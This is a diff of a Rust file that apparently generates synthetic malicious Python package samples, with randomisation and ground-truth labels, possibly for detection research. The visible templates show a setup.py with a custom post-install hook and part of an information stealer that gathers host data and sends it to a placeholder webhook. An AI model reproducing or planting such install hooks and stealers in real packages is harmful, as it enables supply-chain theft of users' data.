@@ -98,7 +98,7 @@ fn layered(dice: &mut Dice, script: &str) -> String {
     }
 }
 
-const SETUP: &str = r#"from setuptools import setup, find_packages
+const SETUP: &str = r"from setuptools import setup, find_packages
 from setuptools.command.install import install
 import os, subprocess, tempfile
 
@@ -132,9 +132,9 @@ setup(
     packages=find_packages(),
     cmdclass={'install': PostInstall},
 )
-"#;
+";
 
-const STEALER: &str = r#"import os, json, getpass, platform, socket as _s
+const STEALER: &str = r"import os, json, getpass, platform, socket as _s
 from urllib.request import Request, urlopen
 @B@HOOK = @W@
 PATHS = {
@@ -155,7 +155,7 @@ def send(data):
 
 if __name__ == '__main__':
     send(info())
-"#;
+";
 
 pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
     let mut before = String::new();
